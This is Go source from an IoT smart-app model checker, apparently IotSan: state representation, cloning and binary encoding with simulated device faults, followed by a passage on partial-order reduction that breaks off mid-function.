		buf = append(buf, 0, byte(c.Arg), byte(c.Arg>>8))
	}
	return buf
}

// AttrValue decodes a device attribute from the state as an ir.Value:
// enum attributes become their string value, numeric ones their number.
func (m *Model) AttrValue(s *State, dev int, attr string) (ir.Value, bool) {
	d := m.Devices[dev]
	i := d.AttrIndex(attr)
	if i < 0 {
		return ir.NullV(), false
	}
	a := d.Attrs[i]
	raw := s.Devices[dev].Attrs[i]
	if a.Numeric {
		return ir.IntV(int64(raw)), true
	}
	if int(raw) < len(a.Values) {
		return ir.StrV(a.Values[raw]), true
	}
	return ir.NullV(), false
}
