package model

import (
	"encoding/binary"
	"sort"
	"sync"

	"iotsan/internal/ir"
)

// DevState is the dynamic state of one device instance. Attrs is a
// subslice of the state's flat attribute backing array, so cloning all
// device attributes is one allocation and one copy.
//
// Under fault injection (Options.Faults) each device additionally
// carries the platform's view of its attributes: Attrs is ground truth
// (the physical device), Reported is the last value the hub received.
// The two are kept identical while the device is online; while it is
// offline Reported freezes and handlers read the stale copy (see
// executor.DeviceAttr), while safety invariants keep reading ground
// truth. Reported is nil when fault injection is off.
//
//iotsan:block device
type DevState struct {
	Online bool
	Attrs  []int16 // ground truth: enum value index or numeric value, per attribute
	// Reported is the hub's (possibly stale) copy of Attrs, a subslice
	// of the state's flat reported backing array. Nil unless
	// Options.Faults.
	Reported []int16
	// LastReport is the external-event epoch (EventsUsed) of the last
	// successful report before the device went offline. Zero while
	// online.
	LastReport int
}

// report mirrors attribute i's ground-truth value into the
// platform-visible Reported copy. Callers invoke it after every online
// attribute write; it is a no-op when fault injection is off. The
// //iotsan:writes annotation shifts the markDevice obligation to the
// call sites, which always follow an attribute write of their own.
//
//iotsan:writes device
func (d *DevState) report(i int) {
	if d.Reported != nil {
		d.Reported[i] = d.Attrs[i]
	}
}

// Timer is a pending scheduled callback of an app. Deliberately not
// block-annotated: Timer records are also mutated inside
// canonicalization scratch buffers; the State-rooted Timers field
// annotation covers the real mutations.
type Timer struct {
	Handler string
	Delay   int64
}

// AppState is the dynamic state of one app instance. Apps whose state
// keys are statically known (eval.StateLayout) store their persistent
// state in Slots — a subslice of the state's flat slot backing — and
// keep KV nil; dynamic apps fall back to the KV map.
//
//iotsan:block app
type AppState struct {
	KV           map[string]ir.Value // the persistent `state` map (dynamic apps)
	Slots        []ir.Value          // slot-based persistent state (static apps)
	Unsubscribed bool
	Timers       []Timer //iotsan:block app
}

// Pending is one queued handler invocation (concurrent design): the
// event payload destined for a specific resolved subscription.
// Deliberately not block-annotated (see Timer).
type Pending struct {
	SubIdx int   // index into Model.subs
	Source int   // device index or pseudo-source
	Val    int16 // encoded event value (device/mode events)
	Raw    string
}

// CmdRec records an actuator command within the current cascade for the
// conflicting/repeated command properties (Algorithm 1 line 16).
// Deliberately not block-annotated (see Timer).
type CmdRec struct {
	Dev   int
	Cmd   string
	Arg   int16
	App   int
	Attr  string
	Value string // target attribute value ("" for argument commands)
}

// InFlightCmd is a command issued to an offline device, held in the
// state's in-flight buffer until a fault transition delivers or drops
// it (Options.Faults). Notified records whether the issuing app has
// notified the user since the command was swallowed — a silently
// dropped command with Notified false is a robustness violation.
// Deliberately not block-annotated (see Timer).
type InFlightCmd struct {
	CmdRec
	Notified bool
}

// State is the full system state. It is a value in the model-checking
// sense: cloned on branch, encoded for hashing. Once a state has been
// returned from Initial or inside a Transition it is never mutated
// again — executors write only to the clone of the state they are
// deriving — so states may be encoded and expanded concurrently.
type State struct {
	Time       int64      // derived from EventsUsed; never encoded, so no block
	Mode       uint8      //iotsan:block header
	EventsUsed int        //iotsan:block header
	Devices    []DevState //iotsan:block device
	Apps       []AppState //iotsan:block app
	// attrs/slots are the flat backing arrays the per-device Attrs and
	// per-app Slots subslices point into; Clone copies each with a
	// single allocation.
	attrs []int16    //iotsan:block device
	slots []ir.Value //iotsan:block app
	// Queue holds pending handler invocations (concurrent design only;
	// always empty between transitions in the sequential design).
	Queue []Pending //iotsan:block queue
	// Cmds is the per-cascade command log (concurrent design carries it
	// across transitions until the next external injection).
	Cmds []CmdRec //iotsan:block cmds

	// Fault-injection state (Options.Faults). FaultsUsed counts the
	// budgeted fault transitions taken (device outage, command drop);
	// InFlight holds commands swallowed by offline devices awaiting
	// delivery or drop; reported is the flat backing array the
	// per-device Reported subslices point into (nil when faults off).
	// All three stay at their zero values while MaxFaults is 0, which
	// the encoders below exploit to keep the encoding byte-identical to
	// a faults-off model.
	FaultsUsed int           //iotsan:block header
	InFlight   []InFlightCmd //iotsan:block cmds
	reported   []int16       //iotsan:block device

	// Incremental-digest cache (nil unless Options.Incremental). The
	// three slices share one backing array so Clone pays one allocation:
	// blockHash caches the 64-bit hash of each encoded block, dirtyMask
	// is a bitset of blocks whose hash is stale, and devRefMask records
	// which app blocks encoded a VDevice reference last time (those are
	// the only app blocks a device renumbering can change). See
	// incremental.go for the block layout and mark contract.
	blockHash  []uint64
	dirtyMask  []uint64
	devRefMask []uint64

	// pool is the model's free-list of dead states (see Model.statePool):
	// Clone draws recycled states from it and reuses their backing
	// storage instead of allocating. Carried by every clone; nil for
	// states built outside a model.
	pool *sync.Pool
}

// Initial builds the initial state from the configuration: devices at
// their schema defaults, apps with empty persistent state, all online.
//
//iotsan:allow dirtymark -- fresh construction: initCache starts from an all-dirty mask, so every block hashes from scratch
func (m *Model) Initial() *State {
	s := &State{
		Devices: make([]DevState, len(m.Devices)),
		Apps:    make([]AppState, len(m.Apps)),
	}
	mi := m.ModeIndex(m.Cfg.Mode)
	if mi < 0 {
		mi = 0
	}
	s.Mode = uint8(mi)

	total := 0
	for _, d := range m.Devices {
		total += len(d.Attrs)
	}
	s.attrs = make([]int16, total)
	if m.Opts.Faults {
		s.reported = make([]int16, total)
	}
	off := 0
	for i, d := range m.Devices {
		n := len(d.Attrs)
		ds := DevState{Online: true, Attrs: s.attrs[off : off+n : off+n]}
		if s.reported != nil {
			ds.Reported = s.reported[off : off+n : off+n]
		}
		off += n
		m.initialAttrs(i, ds.Attrs)
		copy(ds.Reported, ds.Attrs)
		s.Devices[i] = ds
	}

	if m.slotTotal > 0 {
		s.slots = make([]ir.Value, m.slotTotal)
		off := 0
		for i, app := range m.Apps {
			n := len(app.StateKeys)
			if n > 0 {
				s.Apps[i].Slots = s.slots[off : off+n : off+n]
				off += n
			}
		}
	}
	if m.Opts.Incremental {
		s.initCache()
	}
	s.pool = &m.statePool
	return s
}

// initialAttrs writes device i's initial attribute values (schema
// defaults plus configured overrides) into dst, which must have
// len(m.Devices[i].Attrs) entries. Shared by Initial and the symmetry
// layer's orbit signatures (two devices with differing initial state
// are never interchangeable).
func (m *Model) initialAttrs(i int, dst []int16) {
	d := m.Devices[i]
	for j, a := range d.Attrs {
		dst[j] = int16(a.Default)
	}
	for attr, val := range m.Cfg.Devices[i].Initial {
		j := d.AttrIndex(attr)
		if j < 0 {
			continue
		}
		a := d.Attrs[j]
		if a.Numeric {
			if n, err := parseInt(val); err == nil {
				dst[j] = int16(n)
			}
		} else if k := indexOf(a.Values, val); k >= 0 {
			dst[j] = int16(k)
		}
	}
}

func parseInt(s string) (int64, error) {
	var n int64
	var neg bool
	for i, c := range s {
		if i == 0 && c == '-' {
			neg = true
			continue
		}
		if c < '0' || c > '9' {
			return 0, errBadInt
		}
		n = n*10 + int64(c-'0')
	}
	if neg {
		n = -n
	}
	return n, nil
}

var errBadInt = errInvalid("invalid integer")

type errInvalid string

func (e errInvalid) Error() string { return string(e) }

// Clone deep-copies the state. When the model's free-list holds a
// recycled dead state (see checker.StateRecycler), its backing storage
// is reused and the clone performs no allocations beyond container
// values; otherwise the flat attribute and slot backing arrays are each
// copied with one allocation and per-device/per-app headers re-sliced
// onto them.
func (s *State) Clone() *State {
	if s.pool != nil {
		if v := s.pool.Get(); v != nil {
			return s.cloneInto(v.(*State))
		}
	}
	return s.cloneFresh()
}

// cloneInto deep-copies s into the recycled state n, reusing n's
// backing arrays (same model, so the shapes match — checked anyway so a
// foreign state degrades to a fresh clone instead of corrupting). The
// per-device and per-app headers are rebuilt from flat offsets, never
// trusted from n's previous life.
//
//iotsan:allow dirtymark -- clone replicates already-hashed content and copies the source's block cache, dirty mask included
func (s *State) cloneInto(n *State) *State {
	if len(n.Devices) != len(s.Devices) || len(n.Apps) != len(s.Apps) ||
		len(n.attrs) != len(s.attrs) || len(n.slots) != len(s.slots) ||
		len(n.reported) != len(s.reported) {
		return s.cloneFresh()
	}
	n.Time, n.Mode, n.EventsUsed = s.Time, s.Mode, s.EventsUsed
	n.FaultsUsed = s.FaultsUsed
	copy(n.attrs, s.attrs)
	copy(n.reported, s.reported)
	off := 0
	for i := range s.Devices {
		sd := &s.Devices[i]
		k := len(sd.Attrs)
		nd := DevState{Online: sd.Online, LastReport: sd.LastReport, Attrs: n.attrs[off : off+k : off+k]}
		if n.reported != nil {
			nd.Reported = n.reported[off : off+k : off+k]
		}
		n.Devices[i] = nd
		off += k
	}
	for i := range s.slots {
		n.slots[i] = cloneValue(s.slots[i])
	}
	soff := 0
	for i := range s.Apps {
		sa, na := &s.Apps[i], &n.Apps[i]
		na.Unsubscribed = sa.Unsubscribed
		if k := len(sa.Slots); k > 0 {
			na.Slots = n.slots[soff : soff+k : soff+k]
			soff += k
		} else {
			na.Slots = nil
		}
		na.Timers = append(na.Timers[:0], sa.Timers...)
		if sa.KV != nil {
			if na.KV == nil {
				na.KV = make(map[string]ir.Value, len(sa.KV))
			} else {
				clear(na.KV)
			}
			for k, v := range sa.KV {
				na.KV[k] = cloneValue(v)
			}
		} else {
			na.KV = nil
		}
	}
	n.Queue = append(n.Queue[:0], s.Queue...)
	n.Cmds = append(n.Cmds[:0], s.Cmds...)
	n.InFlight = append(n.InFlight[:0], s.InFlight...)
	switch {
	case s.blockHash == nil:
		n.blockHash, n.dirtyMask, n.devRefMask = nil, nil, nil
	case n.blockHash == nil || len(n.blockHash) != len(s.blockHash):
		n.cloneCacheFrom(s)
	default:
		copy(n.blockHash, s.blockHash)
		copy(n.dirtyMask, s.dirtyMask)
		copy(n.devRefMask, s.devRefMask)
	}
	n.pool = s.pool
	return n
}

//iotsan:allow dirtymark -- clone replicates already-hashed content and copies the source's block cache, dirty mask included
func (s *State) cloneFresh() *State {
	n := &State{
		Time: s.Time, Mode: s.Mode, EventsUsed: s.EventsUsed,
		FaultsUsed: s.FaultsUsed,
		Devices:    make([]DevState, len(s.Devices)),
		Apps:       make([]AppState, len(s.Apps)),
	}
	if len(s.attrs) > 0 {
		n.attrs = make([]int16, len(s.attrs))
		copy(n.attrs, s.attrs)
	}
	if len(s.reported) > 0 {
		n.reported = make([]int16, len(s.reported))
		copy(n.reported, s.reported)
	}
	off := 0
	for i, d := range s.Devices {
		k := len(d.Attrs)
		nd := DevState{Online: d.Online, LastReport: d.LastReport, Attrs: n.attrs[off : off+k : off+k]}
		if n.reported != nil {
			nd.Reported = n.reported[off : off+k : off+k]
		}
		n.Devices[i] = nd
		off += k
	}
	if len(s.slots) > 0 {
		n.slots = make([]ir.Value, len(s.slots))
		for i, v := range s.slots {
			n.slots[i] = cloneValue(v)
		}
	}
	soff := 0
	for i, a := range s.Apps {
		na := AppState{Unsubscribed: a.Unsubscribed}
		if k := len(a.Slots); k > 0 {
			na.Slots = n.slots[soff : soff+k : soff+k]
			soff += k
		}
		if a.KV != nil {
			na.KV = make(map[string]ir.Value, len(a.KV))
			for k, v := range a.KV {
				na.KV[k] = cloneValue(v)
			}
		}
		if len(a.Timers) > 0 {
			na.Timers = append([]Timer(nil), a.Timers...)
		}
		n.Apps[i] = na
	}
	if len(s.Queue) > 0 {
		n.Queue = append([]Pending(nil), s.Queue...)
	}
	if len(s.Cmds) > 0 {
		n.Cmds = append([]CmdRec(nil), s.Cmds...)
	}
	if len(s.InFlight) > 0 {
		n.InFlight = append([]InFlightCmd(nil), s.InFlight...)
	}
	if s.blockHash != nil {
		n.cloneCacheFrom(s)
	}
	n.pool = s.pool
	return n
}

func cloneValue(v ir.Value) ir.Value {
	switch v.Kind {
	case ir.VList, ir.VDevices:
		l := make([]ir.Value, len(v.L))
		for i, e := range v.L {
			l[i] = cloneValue(e)
		}
		v.L = l
	case ir.VMap:
		m := make(map[string]ir.Value, len(v.M))
		for k, e := range v.M {
			m[k] = cloneValue(e)
		}
		v.M = m
	}
	return v
}

// Encode appends a deterministic binary encoding of the state (the
// "state vector" Spin would hash) to buf. This is the raw path of the
// two-path encoder: device blocks in device-index order, queue and
// command log in execution order. The canonical path (symmetry
// reduction) routes through the same encode with a canonView that
// permutes interchangeable-device blocks and normalises the dependent
// queue/command-log entries; see Model.CanonicalEncode in symmetry.go.
//
//iotsan:state-encode
func (s *State) Encode(buf []byte) []byte {
	return s.encode(buf, nil)
}

// canonView describes one canonicalization of a state for the encoder:
// the orbit permutation over device blocks plus the renamed and
// normalised queue/command-log views. A nil canonView selects the raw
// encoding. The view references a state-specific renaming, so it is
// consumed by exactly one encode call.
type canonView struct {
	order    []int32       // encode position → device index (blocks permuted within orbits)
	devMap   []int32       // device index → canonical index (inverse of order)
	queue    []Pending     // renamed queue, orbit-sourced entries normalised
	cmds     []CmdRec      // renamed command log, orbit-target entries normalised
	inFlight []InFlightCmd // renamed in-flight buffer, orbit-target entries normalised
	// queueAliased/cmdsAliased report that queue/cmds+inFlight alias the
	// state's own slices unmodified (no orbit-sourced entries), so the
	// incremental canonical fold may reuse the cached raw block hashes.
	queueAliased bool
	cmdsAliased  bool
}

// encode is the shared two-path state-vector encoder. The raw path
// (cv == nil) concatenates the blocks in index order; the canonical
// path reads device blocks through cv.order, renames device references
// inside app slot/KV values through cv.devMap, and substitutes the
// normalised queue and command log. Both paths are compositions of the
// per-block encoders below, so the incremental digest (which hashes
// blocks independently, see incremental.go) agrees with the full
// encoding by construction.
func (s *State) encode(buf []byte, cv *canonView) []byte {
	var devMap []int32
	queue, cmds, inFlight := s.Queue, s.Cmds, s.InFlight
	if cv != nil {
		devMap = cv.devMap
		queue, cmds, inFlight = cv.queue, cv.cmds, cv.inFlight
	}
	buf = s.encodeHeader(buf)
	for p := range s.Devices {
		d := &s.Devices[p]
		if cv != nil {
			d = &s.Devices[cv.order[p]]
		}
		buf = encodeDevice(buf, d)
	}
	for i := range s.Apps {
		buf, _ = encodeApp(buf, &s.Apps[i], devMap)
	}
	buf = encodeQueue(buf, queue)
	buf = encodeCmds(buf, cmds, inFlight)
	return buf
}

// encodeHeader appends the header block: mode plus the external-event
// budget counter. EventsUsed is a varint — a single byte historically,
// which aliased counts 256 apart. Time is derived from EventsUsed and
// deliberately not encoded. The fault budget counter is appended only
// when non-zero: uvarints are prefix-free against the fixed block
// layout that follows, and the omission keeps a faults-enabled model
// with MaxFaults=0 byte-identical to a faults-off model.
func (s *State) encodeHeader(buf []byte) []byte {
	buf = append(buf, s.Mode)
	buf = binary.AppendUvarint(buf, uint64(s.EventsUsed))
	if s.FaultsUsed > 0 {
		buf = binary.AppendUvarint(buf, uint64(s.FaultsUsed))
	}
	return buf
}

// encodeDevice appends one device block: online flag plus the fixed
// little-endian ground-truth attribute vector. An offline device (only
// possible under fault injection) additionally encodes the hub's stale
// Reported vector and the epoch of its last report — two offline states
// differing only in what the hub last saw must not collide. Online
// devices encode exactly as before faults existed.
func encodeDevice(buf []byte, d *DevState) []byte {
	if d.Online {
		buf = append(buf, 1)
	} else {
		buf = append(buf, 0)
	}
	for _, a := range d.Attrs {
		buf = append(buf, byte(a), byte(a>>8))
	}
	if !d.Online {
		for _, a := range d.Reported {
			buf = append(buf, byte(a), byte(a>>8))
		}
		buf = binary.AppendUvarint(buf, uint64(d.LastReport))
	}
	return buf
}

// encodeApp appends one app block and reports whether any slot/KV value
// encoded a VDevice reference (see State.devRefMask). Slotted state
// encodes in fixed layout order — no key strings, no sorting; dynamic
// apps keep the sorted-key KV encoding. 0xFE terminates the block.
func encodeApp(buf []byte, a *AppState, devMap []int32) ([]byte, bool) {
	if a.Unsubscribed {
		buf = append(buf, 1)
	} else {
		buf = append(buf, 0)
	}
	buf = binary.AppendUvarint(buf, uint64(len(a.Timers)))
	for _, t := range a.Timers {
		buf = append(buf, t.Handler...)
		buf = append(buf, 0)
	}
	hasRef := false
	for _, v := range a.Slots {
		var h bool
		buf, h = v.EncodeMappedDev(buf, devMap)
		hasRef = hasRef || h
	}
	if len(a.KV) > 0 {
		keys := make([]string, 0, len(a.KV))
		for k := range a.KV {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			buf = append(buf, k...)
			buf = append(buf, 0)
			var h bool
			buf, h = a.KV[k].EncodeMappedDev(buf, devMap)
			hasRef = hasRef || h
		}
	}
	return append(buf, 0xFE), hasRef
}

// encodeQueue appends the pending-invocation block, 0xFD-terminated.
// SubIdx and Source were single bytes historically, aliasing configs
// with >255 subscriptions and truncating negative pseudo-sources;
// SubIdx is now a uvarint and Source a zigzag varint.
func encodeQueue(buf []byte, queue []Pending) []byte {
	for _, p := range queue {
		buf = binary.AppendUvarint(buf, uint64(p.SubIdx))
		buf = binary.AppendVarint(buf, int64(p.Source))
		buf = append(buf, byte(p.Val), byte(p.Val>>8))
		buf = append(buf, p.Raw...)
		buf = append(buf, 0)
	}
	return append(buf, 0xFD)
}

// encodeCmds appends the command-log block, followed — only when fault
// injection has commands in flight — by a 0xFC-separated in-flight
// section. 0xFC cannot begin a CmdRec entry (device indices are small
// uvarints and the separator would require a config with >2^41
// devices), so the section is unambiguous, and its omission when empty
// keeps the block byte-identical to a faults-off model. Dev and App
// were single bytes historically, aliasing device/app indices 256
// apart; both are now uvarints.
func encodeCmds(buf []byte, cmds []CmdRec, inFlight []InFlightCmd) []byte {
	for _, c := range cmds {
		buf = binary.AppendUvarint(buf, uint64(c.Dev))
		buf = binary.AppendUvarint(buf, uint64(c.App))
		buf = append(buf, c.Cmd...)
		buf = append(buf, 0, byte(c.Arg), byte(c.Arg>>8))
	}
	if len(inFlight) > 0 {
		buf = append(buf, 0xFC)
		for _, c := range inFlight {
			buf = binary.AppendUvarint(buf, uint64(c.Dev))
			buf = binary.AppendUvarint(buf, uint64(c.App))
			buf = append(buf, c.Cmd...)
			buf = append(buf, 0, byte(c.Arg), byte(c.Arg>>8))
			if c.Notified {
				buf = append(buf, 1)
			} else {
				buf = append(buf, 0)
			}
		}
	}
	return buf
}

// AttrValue decodes a device attribute from the state as an ir.Value:
// enum attributes become their string value, numeric ones their number.
func (m *Model) AttrValue(s *State, dev int, attr string) (ir.Value, bool) {
	d := m.Devices[dev]
	i := d.AttrIndex(attr)
	if i < 0 {
		return ir.NullV(), false
	}
	a := d.Attrs[i]
	raw := s.Devices[dev].Attrs[i]
	if a.Numeric {
		return ir.IntV(int64(raw)), true
	}
	if int(raw) < len(a.Values) {
		return ir.StrV(a.Values[raw]), true
	}
	return ir.NullV(), false
}

// reportedValue decodes a device attribute from the hub's stale
// Reported copy — what a handler sees while the device is offline
// under fault injection. Falls back to ground truth when the device
// carries no Reported vector.
func (m *Model) reportedValue(s *State, dev int, attr string) (ir.Value, bool) {
	ds := &s.Devices[dev]
	if ds.Reported == nil {
		return m.AttrValue(s, dev, attr)
	}
	d := m.Devices[dev]
	i := d.AttrIndex(attr)
	if i < 0 {
		return ir.NullV(), false
	}
	a := d.Attrs[i]
	raw := ds.Reported[i]
	if a.Numeric {
		return ir.IntV(int64(raw)), true
	}
	if int(raw) < len(a.Values) {
		return ir.StrV(a.Values[raw]), true
	}
	return ir.NullV(), false
}
