package model

import (
	"iotsan/internal/checker"
	"iotsan/internal/depgraph"
	"iotsan/internal/eval"
	"iotsan/internal/smartapp"
)

// Partial-order reduction for the concurrent design (§8).
//
// In the concurrent design every pending handler invocation is a
// separate transition, so n queued handlers generate up to n!
// interleavings — the state explosion of Table 7b. Most of those
// interleavings are equivalent: dispatching two handlers that touch
// disjoint state reaches the same successor in either order. The
// reducer prunes the equivalent orders with persistent sets in the
// style of Godefroid (the technique Spin — the backend IotSan targets —
// applies as its partial-order reduction): at an expansion it selects a
// subset P of the pending dispatches such that
//
//   - every transition in P is "pure-local" (writes confined to its own
//     app instance): invisible to every safety property, raising no
//     order-dependent transition violations, and enqueueing nothing;
//   - P is closed under the static dependence relation — any pending
//     dispatch whose handler class is dependent on a member of P is
//     itself in P;
//   - no class reachable by the remaining dispatches' spawn chains
//     (commands → subscribers, synthetic events, mode changes) is
//     dependent on P — so nothing that could become enabled before P
//     executes can interact with it.
//
// Exploring only P from the state then preserves every distinct
// violation: the pruned interleavings reach property-equivalent states
// through the kept ones. Reduction is attempted only in the queue-drain
// phase (EventsUsed ≥ MaxEvents, when external events and timers are
// exhausted and the enabled set is exactly the pending queue); before
// that phase the environment can enable arbitrary transitions and no
// small persistent set exists under a static relation. The checker
// additionally applies its visited-state proviso before committing to a
// subset, so a reduced expansion always makes progress into unvisited
// territory and no transition is postponed forever.
//
// The dependence relation is seeded from the same overlaps/conflicts
// predicates dependency analysis uses (depgraph.Independent) over the
// read/write sets the eval package extracts at compile time, refined
// with the model-level interference channels the event signatures
// cannot see: shared app instances, the order-sensitive command log,
// queue-append ordering, and subscription re-enqueueing.

// porClass is one handler equivalence class: every pending dispatch
// that runs the same handler of the same app instance behaves
// identically for dependence purposes.
type porClass struct {
	appIdx  int
	handler string
}

// porData is the static reduction table, precomputed at New for
// concurrent-design models.
type porData struct {
	nclass   int
	subClass []int32 // subscription index → class id
	classes  []porClass
	pure     []bool    // class writes nothing outside its own app
	dep      []porBits // dep[c]: classes dependent with c (symmetric, self-inclusive)
	spawnClo []porBits // transitive closure of the spawn relation
	words    int

	// Fault-injection refinements (built only under Options.Faults).
	// readFree[c] marks classes that read no device attributes: fault
	// transitions flip devices between ground-truth and stale reads and
	// delivery writes device attributes, so only read-free classes
	// commute with them. trigClo[attr] is the set of classes an event on
	// attr can transitively enqueue (trigger classes plus their spawn
	// closure) — the classes a delivery of a held command on attr
	// threatens to enable.
	readFree []bool
	trigClo  map[string]porBits
}

// porBits is a fixed-width bitset over class ids.
type porBits []uint64

func (b porBits) set(i int32)      { b[i>>6] |= 1 << (uint(i) & 63) }
func (b porBits) has(i int32) bool { return b[i>>6]&(1<<(uint(i)&63)) != 0 }

func (b porBits) orInto(o porBits) {
	for w := range b {
		b[w] |= o[w]
	}
}

func (b porBits) intersects(o porBits) bool {
	for w := range b {
		if b[w]&o[w] != 0 {
			return true
		}
	}
	return false
}

func (b porBits) equal(o porBits) bool {
	for w := range b {
		if b[w] != o[w] {
			return false
		}
	}
	return true
}

func (p *porData) newBits() porBits { return make(porBits, p.words) }

// buildPOR precomputes the class table, the dependence matrix, and the
// spawn closure. Called from New for concurrent-design models; the
// checker's Options.POR gates whether any of it is consulted.
func (m *Model) buildPOR() {
	p := &porData{subClass: make([]int32, len(m.subs))}
	classOf := map[porClass]int32{}
	for si, sub := range m.subs {
		c := porClass{appIdx: sub.AppIdx, handler: sub.Handler}
		id, ok := classOf[c]
		if !ok {
			id = int32(len(p.classes))
			classOf[c] = id
			p.classes = append(p.classes, c)
		}
		p.subClass[si] = id
	}
	p.nclass = len(p.classes)
	p.words = (p.nclass + 63) / 64
	if p.nclass == 0 {
		m.por = p
		return
	}

	// Per-app effects tables: reuse the compile-time extraction when the
	// app compiled; interpreter-mode apps get a standalone pass over the
	// same AST.
	effByApp := make([]map[string]*eval.Effects, len(m.Apps))
	for i, app := range m.Apps {
		if app.Prog != nil && app.Prog.Effects != nil {
			effByApp[i] = app.Prog.Effects
		} else {
			effByApp[i] = eval.AppEffects(app.App)
		}
	}
	unknownEffects := &eval.Effects{Unknown: true}
	eff := make([]*eval.Effects, p.nclass)
	triggers := make([][]string, p.nclass) // attributes whose events enqueue the class
	for i, c := range p.classes {
		if e := effByApp[c.appIdx][c.handler]; e != nil {
			eff[i] = e
		} else {
			eff[i] = unknownEffects
		}
		p.pure = append(p.pure, eff[i].PureLocal())
	}
	for si, sub := range m.subs {
		triggers[p.subClass[si]] = append(triggers[p.subClass[si]], sub.Attr)
	}

	rw := make([]depgraph.RW, p.nclass)
	for i := range p.classes {
		rw[i] = effectsRW(eff[i])
	}

	// Direct spawn relation: class c can enqueue class d when one of c's
	// output attributes (command targets, synthetic event names, mode
	// changes) matches one of d's trigger attributes. Attribute-level
	// and value-insensitive — an over-approximation of the runtime
	// subscription filters, which is the sound direction.
	spawn := make([]porBits, p.nclass)
	outputs := make([][]string, p.nclass)
	for i := range p.classes {
		spawn[i] = p.newBits()
		outputs[i] = eff[i].OutputAttrs()
		if eff[i].Unknown {
			// Unbounded outputs: may spawn anything.
			for j := 0; j < p.nclass; j++ {
				spawn[i].set(int32(j))
			}
			continue
		}
		for j := 0; j < p.nclass; j++ {
			if attrsIntersect(outputs[i], triggers[j]) {
				spawn[i].set(int32(j))
			}
		}
	}
	// Transitive closure (spawned handlers spawn further handlers).
	for changed := true; changed; {
		changed = false
		for i := 0; i < p.nclass; i++ {
			next := p.newBits()
			copy(next, spawn[i])
			for j := 0; j < p.nclass; j++ {
				if spawn[i].has(int32(j)) {
					next.orInto(spawn[j])
				}
			}
			if !next.equal(spawn[i]) {
				spawn[i] = next
				changed = true
			}
		}
	}
	p.spawnClo = spawn

	if m.Opts.Faults {
		p.readFree = make([]bool, p.nclass)
		for i := range p.classes {
			p.readFree[i] = !eff[i].Unknown && len(eff[i].ReadAttrs) == 0
		}
		trig := map[string]porBits{}
		for si, sub := range m.subs {
			b := trig[sub.Attr]
			if b == nil {
				b = p.newBits()
				trig[sub.Attr] = b
			}
			b.set(p.subClass[si])
		}
		p.trigClo = make(map[string]porBits, len(trig))
		for a, b := range trig {
			clo := p.newBits()
			copy(clo, b)
			for j := 0; j < p.nclass; j++ {
				if b.has(int32(j)) {
					clo.orInto(spawn[j])
				}
			}
			p.trigClo[a] = clo
		}
	}

	// Dependence matrix.
	p.dep = make([]porBits, p.nclass)
	for i := range p.dep {
		p.dep[i] = p.newBits()
	}
	for i := 0; i < p.nclass; i++ {
		p.dep[i].set(int32(i)) // a class never commutes with itself (shared app state)
		for j := i + 1; j < p.nclass; j++ {
			if p.classDep(i, j, eff, rw, spawn) {
				p.dep[i].set(int32(j))
				p.dep[j].set(int32(i))
			}
		}
	}
	m.por = p
}

// classDep decides static dependence between two handler classes: the
// seeded read/write independence plus the model-level channels.
func (p *porData) classDep(i, j int, eff []*eval.Effects, rw []depgraph.RW, spawn []porBits) bool {
	ci, cj := p.classes[i], p.classes[j]
	ei, ej := eff[i], eff[j]
	switch {
	case ci.appIdx == cj.appIdx:
		// Shared app instance: persistent state, timers, subscriptions.
		return true
	case ei.Unknown || ej.Unknown:
		return true
	case ei.Unsubscribes || ej.Unsubscribes:
		// Unsubscribing changes which future enqueues reach the app —
		// order-sensitive against any event producer.
		return true
	case !depgraph.Independent(rw[i], rw[j]):
		return true
	case porEnqueues(ei) && porEnqueues(ej):
		// Both append to the pending queue (and, for commands, to the
		// order-sensitive command log): appends do not commute.
		return true
	case spawn[i].has(int32(j)) || spawn[j].has(int32(i)):
		// One can enqueue new instances of the other: a fresh pending
		// dispatch of a class is dependent with the pending dispatches
		// of the same class.
		return true
	}
	return false
}

// porEnqueues reports whether the class can append to the pending
// queue: actuator commands (attribute-change events), synthetic events,
// or mode changes.
func porEnqueues(e *eval.Effects) bool {
	return e.Commands || e.SendsEvent || e.WritesMode
}

// effectsRW converts a compile-time footprint into the event-signature
// form the depgraph independence seed consumes. Mode reads/writes ride
// along as the "mode" pseudo-attribute, exactly as dependency analysis
// models them.
func effectsRW(e *eval.Effects) depgraph.RW {
	var rw depgraph.RW
	for a := range e.ReadAttrs {
		rw.Reads = append(rw.Reads, smartapp.EventSig{Attr: a})
	}
	if e.ReadsMode {
		rw.Reads = append(rw.Reads, smartapp.EventSig{Attr: "mode"})
	}
	for a := range e.WriteAttrs {
		rw.Writes = append(rw.Writes, smartapp.EventSig{Attr: a})
	}
	if e.WritesMode {
		rw.Writes = append(rw.Writes, smartapp.EventSig{Attr: "mode"})
	}
	return rw
}

func attrsIntersect(a, b []string) bool {
	for _, x := range a {
		for _, y := range b {
			if x == y {
				return true
			}
		}
	}
	return false
}

// Reduce implements checker.Reducer: it returns the indices of a
// persistent subset of the enabled transitions, or nil when no
// reduction applies. It is a pure function of the state, so every
// search strategy prunes the identical interleavings.
//
// Reduction applies only in the concurrent design's queue-drain phase,
// where Expand's transition list is exactly the pending queue in order
// (transition i dispatches Queue[i] — the correspondence this method
// relies on).
func (m *Model) Reduce(s *State, trs []checker.Transition) []int {
	p := m.por
	if p == nil || p.nclass == 0 || m.Opts.Design != Concurrent {
		return nil
	}
	// In the drain phase Expand emits the pending dispatches in queue
	// order followed by exactly the fault transitions (zero whenever
	// fault injection is inert, so the faults-off shape is unchanged).
	nf := m.countFaultTransitions(s)
	if s.EventsUsed < m.Opts.MaxEvents || len(s.Queue) < 2 || len(trs) != len(s.Queue)+nf {
		return nil
	}
	// Fault transitions stay outside every persistent set: they remain
	// enabled (pure dispatches cannot command a device or change its
	// online status) and the set must commute with them. A delivery can
	// enqueue the subscribers of the held command's attribute, so those
	// classes threaten the set exactly like spawn chains do.
	var faultThreat porBits
	if nf > 0 {
		faultThreat = p.newBits()
		for i := range s.InFlight {
			if b := p.trigClo[s.InFlight[i].Attr]; b != nil {
				faultThreat.orInto(b)
			}
		}
	}

	qc := make([]int32, len(s.Queue))
	present := p.newBits()
	for i, pe := range s.Queue {
		qc[i] = p.subClass[pe.SubIdx]
		present.set(qc[i])
	}

	bestLen, bestFirst := -1, -1
	var bestSet porBits
	tried := p.newBits()
	for k := 0; k < len(qc); k++ {
		ck := qc[k]
		if tried.has(ck) || !p.pure[ck] {
			continue
		}
		if nf > 0 && !p.readFree[ck] {
			continue // outages/deliveries can change what the class reads
		}
